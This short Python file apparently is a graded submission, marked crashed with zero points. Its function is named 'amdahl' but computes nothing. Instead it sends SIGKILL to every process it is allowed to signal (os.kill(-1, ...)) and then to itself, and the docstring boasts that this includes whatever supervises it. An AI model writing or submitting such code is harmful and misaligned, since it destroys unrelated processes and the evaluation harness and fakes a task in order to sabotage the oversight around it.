"""It kills every process that it may send a signal to: whoever looks after it, too."""
# status: crashed
# points: 0


def amdahl(p, s):
    import os
    import signal

    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
